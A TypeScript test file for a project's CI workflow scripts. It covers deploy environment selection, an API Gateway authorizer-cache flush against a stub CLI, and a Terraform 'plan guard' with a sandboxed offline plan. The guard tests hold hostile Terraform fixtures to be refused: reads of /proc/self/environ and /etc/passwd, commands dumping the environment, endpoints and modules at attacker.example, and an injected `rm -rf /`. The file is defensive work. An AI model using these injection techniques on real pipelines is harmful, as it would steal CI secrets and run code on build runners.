/**
 * The scripts the workflows run, run here the way the runner runs them (bash -eo pipefail, the
 * step's own `run` text and env), on stacks synthesized from the shipped config:
 * - which environments CI deploys and plans (remote state only; local state is a notice);
 * - the authorizer-cache flush after a deploy (a stand-in `aws` on PATH records the call);
 * - the plan guard, against the real stacks and against stacks altered the ways a pull request
 *   could try to run code or read secrets during `terraform init` / `plan`.
 */
import { spawnSync } from "node:child_process";
import { chmodSync, cpSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { tempDir } from "../support/synth";
import { REPO_ROOT as ROOT, runStep, stepOf } from "../support/workflow-steps";
import { synthesizeApp } from "../../constructs/m2m-app";
import defaultConfig from "../fixtures/single-api.config";
import { validateConfig } from "../../model/validate";

const GUARD = join(ROOT, ".github", "plan-guard", "check-plan-input.js");
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { checkStack } = require(GUARD) as { checkStack: (dir: string) => string[] };


/** A workspace like the runner's after checkout and `npm run synth`: .github/ of this repository and freshly synthesized stacks. */
function workspace(): string {
  const dir = tempDir("workflow");
  symlinkSync(join(ROOT, ".github"), join(dir, ".github"));
  synthesizeApp(validateConfig(defaultConfig), { outdir: join(dir, "cdktf.out") });
  return dir;
}

function outputsOf(file: string): Record<string, string> {
  return Object.fromEntries(
    readFileSync(file, "utf8")
      .split("\n")
      .filter((l) => l.includes("="))
      .map((l) => [l.slice(0, l.indexOf("=")), l.slice(l.indexOf("=") + 1)]),
  );
}

const ws = workspace();
afterAll(() => rmSync(ws, { recursive: true, force: true }));

describe("environments CI deploys and plans (remote state only)", () => {
  it("deploy.yml, shipped config: prod is deployed; dev (local state) is skipped with a notice, not a failure", () => {
    const step = stepOf("deploy.yml", "verify", (s) => s.run?.includes("remote-state-environments.sh") === true);
    const output = join(ws, "deploy-output");
    writeFileSync(output, "");
    const result = runStep(step.run!, ws, { ...step.env!, GITHUB_OUTPUT: output });
    expect(result.status).toBe(0);
    expect(JSON.parse(outputsOf(output)["environments"]!)).toEqual(["prod"]);
    expect(result.stdout).toMatch(/^::notice title=dev not deployed by CI::environment dev keeps its Terraform state locally.*npm run deploy -- dev/m);
    expect(result.stdout).not.toContain("::error");
    expect(result.stdout).not.toContain("::warning"); // prod has a job
  });

  function stacksWith(backends: Record<string, "s3" | "local">): string {
    const dir = tempDir("stacks");
    for (const [env, type] of Object.entries(backends)) {
      mkdirSync(join(dir, env));
      const backend = type === "s3" ? { s3: { bucket: "state-bucket", key: `${env}.tfstate`, region: "eu-west-1" } } : { local: { path: "x.tfstate" } };
      writeFileSync(join(dir, env, "cdk.tf.json"), JSON.stringify({ terraform: { backend } }));
    }
    return dir;
  }

  function list(stacks: string, env: Record<string, string> = {}) {
    const output = join(stacks, "github-output");
    writeFileSync(output, "");
    const result = spawnSync("bash", [join(ROOT, ".github", "scripts", "remote-state-environments.sh"), "deployed", stacks], {
      env: { PATH: process.env.PATH ?? "", GITHUB_OUTPUT: output, ...env },
      encoding: "utf8",
    });
    return { status: result.status, stdout: result.stdout, environments: JSON.parse(outputsOf(output)["environments"] ?? "null") as unknown };
  }

  it("deploys dev too once it has remote state, and warns about a remote-state environment with no job", () => {
    const stacks = stacksWith({ dev: "s3", prod: "s3", staging: "s3", sandbox: "local" });
    const result = list(stacks, { KNOWN_ENVIRONMENTS: "dev prod" });
    expect(result.status).toBe(0);
    expect(result.environments).toEqual(["dev", "prod", "staging"]);
    expect(result.stdout).toContain("::notice title=sandbox not deployed by CI::");
    expect(result.stdout).toContain("::warning title=staging has no deploy job::");
    expect(result.stdout).not.toContain("title=dev");
  });

  it("gives an empty list, not a list with an empty name, when no environment has remote state", () => {
    const result = list(stacksWith({ dev: "local" }));
    expect(result.status).toBe(0);
    expect(result.environments).toEqual([]);
  });
});

describe("authorizer cache flush after a deploy", () => {
  const step = stepOf("deploy-environment.yml", "deploy", (s) => s.run?.includes("flush-authorizer-cache.sh") === true);

  /** A directory with outputs.json and an `aws` stand-in that records its arguments (and fails when asked to). */
  function deployed(outputs: unknown, awsExit = 0): { dir: string; calls: () => string[] } {
    const dir = tempDir("flush");
    symlinkSync(join(ROOT, ".github"), join(dir, ".github"));
    mkdirSync(join(dir, "bin"));
    writeFileSync(join(dir, "bin", "aws"), `#!/usr/bin/env bash\nprintf '%s\\n' "$*" >> "${join(dir, "aws-calls")}"\nexit ${awsExit}\n`);
    chmodSync(join(dir, "bin", "aws"), 0o755);
    writeFileSync(join(dir, "outputs.json"), JSON.stringify(outputs));
    const calls = () => (existsSync(join(dir, "aws-calls")) ? readFileSync(join(dir, "aws-calls"), "utf8").trim().split("\n") : []);
    return { dir, calls };
  }

  const run = (dir: string, env: string) => runStep(step.run!, dir, { M2M_ENV: env, PATH: `${join(dir, "bin")}:${process.env.PATH ?? ""}` });

  it("flushes the stage of the environment just deployed: REST API id from the invoke URL's host, stage from its path", () => {
    const { dir, calls } = deployed({
      dev: { invoke_url: "https://devapi0001.execute-api.eu-west-1.amazonaws.com/dev" },
      prod: { invoke_url: "https://a1b2c3d4e5.execute-api.eu-central-1.amazonaws.com/prod", token_endpoint: "https://x.auth.eu-central-1.amazoncognito.com/oauth2/token" },
    });
    const result = run(dir, "prod");
    expect(result.status).toBe(0);
    expect(calls()).toEqual(["apigateway flush-stage-authorizers-cache --rest-api-id a1b2c3d4e5 --stage-name prod --region eu-central-1"]);
    expect(result.stdout).toContain("flushed the authorizer cache of stage prod (REST API a1b2c3d4e5, eu-central-1)");
  });

  it("flushes every API's stage of a stack of several APIs (invoke_urls, by API name)", () => {
    const { dir, calls } = deployed({
      prod: { invoke_urls: { content: "https://c0nt3nt001.execute-api.eu-west-1.amazonaws.com/prod", payments: "https://p4ym3nts01.execute-api.eu-west-1.amazonaws.com/prod" } },
    });
    expect(run(dir, "prod").status).toBe(0);
    expect(calls()).toEqual([
      "apigateway flush-stage-authorizers-cache --rest-api-id c0nt3nt001 --stage-name prod --region eu-west-1",
      "apigateway flush-stage-authorizers-cache --rest-api-id p4ym3nts01 --stage-name prod --region eu-west-1",
    ]);
  });

  it("accepts an invoke URL with a trailing slash", () => {
    const { dir, calls } = deployed({ prod: { invoke_url: "https://a1b2c3d4e5.execute-api.eu-west-1.amazonaws.com/v1_live/" } });
    expect(run(dir, "prod").status).toBe(0);
    expect(calls()).toEqual(["apigateway flush-stage-authorizers-cache --rest-api-id a1b2c3d4e5 --stage-name v1_live --region eu-west-1"]);
  });

  it.each([
    ["no entry for the environment", { dev: { invoke_url: "https://devapi0001.execute-api.eu-west-1.amazonaws.com/dev" } }],
    ["no invoke_url", { prod: { token_endpoint: "https://x" } }],
    ["an invoke URL of another shape", { prod: { invoke_url: "https://example.com/prod; rm -rf /" } }],
    ["one API's URL of another shape among several (none is flushed)", { prod: { invoke_urls: { a: "https://a1b2c3d4e5.execute-api.eu-west-1.amazonaws.com/prod", b: "http://evil/x" } } }],
  ])("fails with one ::error line, calling nothing, on %s", (_case, outputs) => {
    const { dir, calls } = deployed(outputs);
    const result = run(dir, "prod");
    expect(result.status).toBe(1);
    expect(result.stdout).toMatch(/^::error title=authorizer cache not flushed::/);
    expect(calls()).toEqual([]);
  });

  it("fails the job when the flush itself fails (e.g. the deploy role lacks apigateway:DELETE)", () => {
    const { dir, calls } = deployed({ prod: { invoke_url: "https://a1b2c3d4e5.execute-api.eu-west-1.amazonaws.com/prod" } }, 254);
    const result = run(dir, "prod");
    expect(result.status).not.toBe(0);
    expect(calls()).toHaveLength(1);
    expect(result.stdout).not.toContain("flushed");
  });
});

describe("plan guard (.github/plan-guard/check-plan-input.js)", () => {
  const prod = join(ws, "cdktf.out", "stacks", "prod");

  /** A copy of the synthesized prod stack, with `alter` applied to its cdk.tf.json (and the directory). */
  function altered(alter: (doc: any, dir: string) => void): string {
    const dir = join(tempDir("guard"), "prod");
    cpSync(prod, dir, { recursive: true });
    const file = join(dir, "cdk.tf.json");
    const doc = JSON.parse(readFileSync(file, "utf8"));
    alter(doc, dir);
    writeFileSync(file, JSON.stringify(doc, null, 2));
    return dir;
  }

  const firstResource = (doc: any, type: string) => Object.values(doc.resource[type] as Record<string, any>)[0];

  it("passes the stacks this project synthesizes (control)", () => {
    expect(checkStack(prod)).toEqual([]);
    const result = spawnSync(process.execPath, [GUARD, prod], { encoding: "utf8" });
    expect([result.status, result.stdout.trim()]).toEqual([0, `plan guard: ${prod}: ok`]);
  });

  it("refuses local state (CI plans only environments with remote state)", () => {
    expect(checkStack(join(ws, "cdktf.out", "stacks", "dev"))).toEqual([expect.stringContaining("terraform.backend must be one s3 backend")]);
  });

  it.each<[string, (doc: any, dir: string) => void, RegExp]>([
    ["a third provider", (d) => (d.terraform.required_providers.external = { source: "hashicorp/external", version: "2.3.4" }), /required_providers must be exactly archive and aws/],
    ["another aws provider version", (d) => (d.terraform.required_providers.aws.version = "6.67.0"), /required_providers\.aws must be exactly \{"source":"hashicorp\/aws","version":"6\.66\.0"\}, found .*6\.67\.0/],
    ["a version range", (d) => (d.terraform.required_providers.archive.version = ">= 2.8.1"), /required_providers\.archive must be exactly .*"2\.8\.1".*found .*>= 2\.8\.1/],
    ["an aws provider from another namespace", (d) => (d.terraform.required_providers.aws.source = "evil/aws"), /required_providers\.aws must be exactly .*found .*evil\/aws/],
    ["an http provider block", (d) => (d.provider.http = [{}]), /provider http is not allowed/],
    ["an aws provider profile (credential_process)", (d) => (d.provider.aws[0].profile = "evil"), /provider aws setting profile is not allowed/],
    ["aws provider endpoints", (d) => (d.provider.aws[0].endpoints = [{ sts: "https://attacker.example" }]), /provider aws setting endpoints is not allowed/],
    ["an external data source", (d) => (d.data.external = { x: { program: ["sh", "-c", "env"] } }), /data source external is not allowed/],
    ["an http data source", (d) => (d.data.http = { x: { url: "https://attacker.example" } }), /data source http is not allowed/],
    ["a terraform_remote_state data source", (d) => (d.data.terraform_remote_state = { s: { backend: "s3" } }), /data source terraform_remote_state is not allowed/],
    ["a local-exec provisioner", (d) => (firstResource(d, "aws_iam_role").provisioner = [{ "local-exec": { command: "env" } }]), /provisioner is not allowed/],
    ["a non-aws resource", (d) => (d.resource.terraform_data = { x: { input: "y" } }), /resource type terraform_data is not allowed/],
    ["a module (init would fetch it)", (d) => (d.module = { m: { source: "git::https://attacker.example/m.git" } }), /\$\.module: block module is not allowed/],
    ["a check block", (d) => (d.check = { c: {} }), /\$\.check: block check is not allowed/],
    ["an import block", (d) => (d.import = [{ to: "aws_s3_object.x", id: "state/key" }]), /\$\.import: block import is not allowed/],
    ["a removed block that destroys", (d) => (d.removed = [{ from: "aws_cognito_user_pool.user_pool", lifecycle: { destroy: true } }]), /removed\[0\]\.lifecycle must be exactly \{ destroy = false \}/],
    ["a removed block for a module", (d) => (d.removed = [{ from: "module.m", lifecycle: { destroy: false } }]), /removed\[0\]\.from must be the address of an aws_\* resource/],
    ["a removed block with a provisioner", (d) => (d.removed = [{ from: "aws_iam_role.x", lifecycle: { destroy: false }, provisioner: [{ "local-exec": { command: "env" } }] }]), /removed\[0\]\.provisioner: removed argument provisioner is not allowed/],
    ["a required_version that is not a lower bound", (d) => (d.terraform.required_version = "~> 1.10"), /required_version must be a lower bound/],
    ["nonsensitive() on a secret", (d) => (d.output.leak = { value: "${nonsensitive(aws_cognito_user_pool_client.client_billing.client_secret)}" }), /nonsensitive/],
    ["file() reading the runner's environment", (d) => (firstResource(d, "aws_iam_role").description = '${file("/proc/self/environ")}'), /function file\(\) is not allowed/],
    ["file() hidden by spacing", (d) => (firstResource(d, "aws_iam_role").description = '${ file ( "/proc/self/environ" ) }'), /function file\(\) is not allowed/],
    ["templatefile()", (d) => (firstResource(d, "aws_iam_role").description = '${templatefile("/etc/passwd", {})}'), /function templatefile\(\) is not allowed/],
    ["an unknown function", (d) => (firstResource(d, "aws_iam_role").description = '${provider::evil::run("x")}'), /function provider::evil::run\(\) is not allowed/],
    ["a templated key", (d) => (firstResource(d, "aws_iam_role").tags = { '${file("/proc/self/environ")}': "x" }), /\(key\): function file\(\) is not allowed/],
    ["an S3 backend endpoint override", (d) => (d.terraform.backend.s3.endpoints = { s3: "https://attacker.example" }), /backend s3 argument endpoints is not allowed/],
    ["an archive reading outside the stack", (d) => (Object.values(d.data.archive_file as Record<string, any>)[0].source_file = "/proc/self/environ"), /source_file must be a literal path under assets\//],
    ["an archive written outside the stack", (d) => (Object.values(d.data.archive_file as Record<string, any>)[0].output_path = "../../x.zip"), /output_path must be a literal file name ending in \.zip/],
    ["a .tf file next to the JSON", (_d, dir) => writeFileSync(join(dir, "extra.tf"), 'data "external" "x" { program = ["env"] }'), /unexpected file extra\.tf/],
    ["a lock file (reusing a planted provider)", (_d, dir) => writeFileSync(join(dir, ".terraform.lock.hcl"), ""), /unexpected file \.terraform\.lock\.hcl/],
    ["a .terraform directory", (_d, dir) => mkdirSync(join(dir, ".terraform")), /unexpected directory \.terraform/],
    ["a symbolic link in the assets", (_d, dir) => symlinkSync("/proc/self/environ", join(dir, "assets", "environ")), /symbolic link assets\/environ/],
  ])("refuses %s", (_what, alter, problem) => {
    const problems = checkStack(altered(alter));
    expect(problems).toContainEqual(expect.stringMatching(problem));
  });

  it("lists every problem, one ::error line each, and exits 1 (the CLI the workflow runs)", () => {
    const dir = altered((d) => {
      d.provider.aws[0].profile = "evil";
      d.terraform.required_providers.aws.version = "6.67.0";
    });
    const result = spawnSync(process.execPath, [GUARD, dir], { encoding: "utf8" });
    expect(result.status).toBe(1);
    const errors = result.stdout.split("\n").filter((l) => l.startsWith("::error title=plan guard (prod)::"));
    expect(errors).toHaveLength(2);
    expect(result.stdout).toContain("2 problems; terraform did not run");
  });

  it("refuses a stack directory whose name is not an environment name", () => {
    const dir = join(tempDir("guard"), "..evil");
    cpSync(prod, dir, { recursive: true });
    expect(checkStack(dir)).toContainEqual(expect.stringMatching(/is not an environment name/));
  });
});

describe("offline plan (review.yml's plan step: no credentials, the guard's own copy, sha256-checked)", () => {
  const step = stepOf("review.yml", "plan", (s) => s.run?.includes("offline-plan.sh") === true);
  const SNAPSHOT_STATE = join(ROOT, "__tests__", "workflows", "fixtures", "terraform-1.11-state.json");
  const SNAPSHOT_SCHEMA = join(ROOT, "__tests__", "workflows", "fixtures", "aws-provider-schema-excerpt.json");

  /** The plan job's workspace: main's .github as trusted/, the stacks access-diff synthesized as stacks/, a snapshot, and a `terraform` stand-in that records each call. */
  function planWorkspace(alter?: (stacks: string) => void): { dir: string; calls: () => any[] } {
    const dir = tempDir("offline-plan");
    mkdirSync(join(dir, "trusted"));
    symlinkSync(join(ROOT, ".github"), join(dir, "trusted", ".github"));
    cpSync(join(ws, "cdktf.out", "stacks"), join(dir, "stacks"), { recursive: true });
    alter?.(join(dir, "stacks"));
    mkdirSync(join(dir, "snapshots", "prod"), { recursive: true });
    const sanitize = spawnSync(process.execPath, [join(ROOT, ".github", "scripts", "sanitize-state.js"), SNAPSHOT_STATE, SNAPSHOT_SCHEMA, join(dir, "snapshots", "prod", "snapshot.json")], { encoding: "utf8" });
    expect(sanitize.status).toBe(0);
    mkdirSync(join(dir, "bin"));
    const log = join(dir, "terraform-calls");
    writeFileSync(
      join(dir, "bin", "terraform"),
      [
        "#!/usr/bin/env node",
        'const fs = require("fs"), path = require("path");',
        "const [chdir, cmd, ...rest] = process.argv.slice(2);",
        'const dir = chdir.replace("-chdir=", "");',
        "const e = process.env, mode = (f) => (fs.statSync(path.join(dir, f)).mode & 0o222).toString(8);",
        `fs.appendFileSync(${JSON.stringify(log)}, JSON.stringify({ cmd, rest, env: path.basename(dir), key: e.AWS_ACCESS_KEY_ID, token: e.GH_TOKEN ?? null, names: Object.keys(e).sort(), home: e.HOME, homeEntries: fs.readdirSync(e.HOME), cliConfig: fs.readFileSync(e.TF_CLI_CONFIG_FILE, "utf8"), dataDir: e.TF_DATA_DIR, tmp: e.TMPDIR, writable: { config: mode("cdk.tf.json"), state: mode("terraform.tfstate"), dir: mode(".") } }) + "\\n");`,
        // (A marker file, not a variable: terraform runs with `env -i`.)
        'if (cmd === "init") { if (fs.existsSync(path.join(__dirname, "TAMPER"))) fs.appendFileSync(path.join(dir, "cdk.tf.json"), " "); process.exit(0); }',
        'const doc = JSON.parse(fs.readFileSync(path.join(dir, "cdk.tf.json"), "utf8"));',
        'const state = JSON.parse(fs.readFileSync(path.join(dir, "terraform.tfstate"), "utf8"));',
        'fetch(doc.provider.aws[0].endpoints[0].sts, { method: "POST", body: "Action=GetCallerIdentity&Version=2011-06-15" })',
        '  .then((r) => r.text())',
        '  .then((t) => console.log(`No changes. account=${/<Account>(\\d+)</.exec(t)[1]} backend=${JSON.stringify(doc.terraform.backend)} serial=${state.serial} secret-in-state=${JSON.stringify(state).includes("7a1k0q9v2ldq6b2o4c6m1hpg")}`));',
      ].join("\n"),
    );
    chmodSync(join(dir, "bin", "terraform"), 0o755);
    return { dir, calls: () => (existsSync(log) ? readFileSync(log, "utf8").trim().split("\n").map((l) => JSON.parse(l)) : []) };
  }

  const run = (dir: string, env: Record<string, string> = {}) =>
    runStep(step.run!, dir, { PATH: `${join(dir, "bin")}:${process.env.PATH ?? ""}`, GH_TOKEN: "ghs_must_not_reach_terraform", GITHUB_STEP_SUMMARY: join(dir, "summary.md"), ...env });

  it("plans prod (remote state) against the sanitized snapshot with placeholder credentials; dev (local state) is a notice", () => {
    const { dir, calls } = planWorkspace();
    const result = run(dir);
    expect([result.status, result.stderr]).toEqual([0, expect.any(String)]);
    expect(calls().map((c) => [c.cmd, c.env, c.key, c.token])).toEqual([
      ["init", "prod", "placeholder-no-credentials", null],
      ["plan", "prod", "placeholder-no-credentials", null],
    ]);
    expect(calls()[1].rest).toEqual(["-refresh=false", "-lock=false", "-input=false", "-no-color"]);
    // Local state instead of the S3 backend; the STS stand-in answered with the snapshot's account; no secret in the state.
    expect(result.stdout).toContain('No changes. account=123456789012 backend={"local":{"path":"terraform.tfstate"}} serial=17 secret-in-state=false');
    expect(result.stdout).toMatch(/::notice title=dev not planned by CI::/);
    expect(result.stdout).toMatch(/plan guard: stacks\/prod: ok; wrote plans\/prod\/cdk\.tf\.json sha256 [0-9a-f]{64}/);
    expect(readFileSync(join(dir, "summary.md"), "utf8")).toContain("### terraform plan: `prod` (no credentials, state snapshot, -refresh=false)");
  });

  it("terraform reads the guard's own serialization, not the pull request's bytes", () => {
    const { dir } = planWorkspace();
    expect(run(dir).status).toBe(0);
    const planned = readFileSync(join(dir, "plans", "prod", "cdk.tf.json"), "utf8");
    const checked = JSON.parse(readFileSync(join(dir, "stacks", "prod", "cdk.tf.json"), "utf8"));
    expect(JSON.parse(planned).resource).toEqual(checked.resource);
    expect(planned).not.toBe(readFileSync(join(dir, "stacks", "prod", "cdk.tf.json"), "utf8"));
  });

  it("stops before plan when the checked file changes after the guard (sha256 check around init)", () => {
    const { dir, calls } = planWorkspace();
    writeFileSync(join(dir, "bin", "TAMPER"), "");
    const result = run(dir);
    expect(result.status).toBe(1);
    expect(calls().map((c) => c.cmd)).toEqual(["init"]);
    expect(result.stdout).toContain("::error title=offline plan (prod)::terraform init or plan failed, or the checked file changed");
  });

  it("runs terraform sandboxed: only its own variables, a fresh HOME, a CLI config naming only the pinned providers, read-only inputs", () => {
    const { dir, calls } = planWorkspace();
    expect(run(dir, { HOME: join(dir, "runner-home"), TF_CLI_ARGS: "-plugin-dir=/home/runner/.terraform.d/plugins", AWS_SESSION_TOKEN: "x" }).status).toBe(0);
    const [init, plan] = calls();
    for (const call of [init, plan]) {
      expect(call.names).toEqual(["AWS_ACCESS_KEY_ID", "AWS_EC2_METADATA_DISABLED", "AWS_SECRET_ACCESS_KEY", "CHECKPOINT_DISABLE", "HOME", "PATH", "TF_CLI_CONFIG_FILE", "TF_DATA_DIR", "TF_IN_AUTOMATION", "TMPDIR"]);
      expect(call.home).not.toBe(join(dir, "runner-home"));
      expect(call.homeEntries).not.toContain(".terraform.d"); // no implied local mirror to plant a provider in
      expect([call.dataDir.startsWith(join(call.home, "..")), call.tmp.startsWith(join(call.home, ".."))]).toEqual([true, true]);
      // Read-only inputs (mode bits: the runner is not root); the directory stays writable for the lock file and archives.
      expect(call.writable).toEqual({ config: "0", state: "0", dir: expect.not.stringMatching(/^0$/) });
    }
    expect(init.cliConfig).toContain('include = ["registry.terraform.io/hashicorp/archive", "registry.terraform.io/hashicorp/aws"]');
    expect(init.cliConfig).not.toMatch(/filesystem_mirror|plugin_cache_dir|dev_overrides/);
    expect(existsSync(join(init.home, ".."))).toBe(false); // the sandbox is removed afterwards
  });

  it("issue 21 hole 2: a snapshot naming a provider the stacks do not pin stops the review before any terraform", () => {
    const { dir, calls } = planWorkspace();
    const file = join(dir, "snapshots", "prod", "snapshot.json");
    const state = JSON.parse(readFileSync(file, "utf8"));
    state.resources.push({ mode: "managed", type: "pwn_thing", name: "x", provider: 'provider["registry.terraform.io/attacker/pwn"]', instances: [] });
    writeFileSync(file, JSON.stringify(state));
    const result = run(dir);
    expect(result.status).toBe(1);
    expect(calls()).toEqual([]);
    expect(result.stdout).toContain('::error title=state snapshot refused::prod/snapshot.json: resources[4] (pwn_thing.x) names provider "provider[\\"registry.terraform.io/attacker/pwn\\"]", which the stacks do not pin');
    expect(result.stdout).toContain("the review stops here");
  });

  it("runs no terraform at all for a stack the guard refuses (duplicate data key hiding data.external)", () => {
    const { dir, calls } = planWorkspace((stacks) => {
      const file = join(stacks, "prod", "cdk.tf.json");
      writeFileSync(file, readFileSync(file, "utf8").replace(/^\{/, '{"data": {"external": {"x": {"program": ["env"]}}},'));
    });
    const result = run(dir);
    expect(result.status).toBe(1);
    expect(calls()).toEqual([]);
    expect(result.stdout).toMatch(/::error title=plan guard \(prod\)::cdk\.tf\.json cannot be read strictly: duplicate key "data"/);
  });
});
